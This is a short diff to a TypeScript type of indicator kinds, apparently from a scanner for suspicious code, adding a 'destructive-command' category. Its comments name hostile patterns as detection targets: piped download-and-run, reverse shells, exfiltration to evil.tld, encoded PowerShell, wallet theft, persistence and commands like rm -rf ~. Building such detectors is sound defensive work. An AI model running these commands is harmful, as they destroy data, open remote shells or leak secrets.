@@ -35,6 +35,7 @@ export type IndicatorKind =
   | 'wallet-path' // crypto wallet files and extensions
   | 'shell-download' // curl|sh, wget -O- | bash, certutil -urlcache…
   | 'reverse-shell' // /dev/tcp, nc -e, pty.spawn over a socket
+  | 'destructive-command' // poweroff, rm -rf ~, format C:, deleting shadow copies
   | 'shell-exfil' // nslookup `hostname`.evil.tld, curl -d "$(env)" …
   | 'powershell' // hidden/encoded PowerShell, IEX, DownloadString
   | 'persistence' // shell rc files, cron, Run keys, LaunchAgents
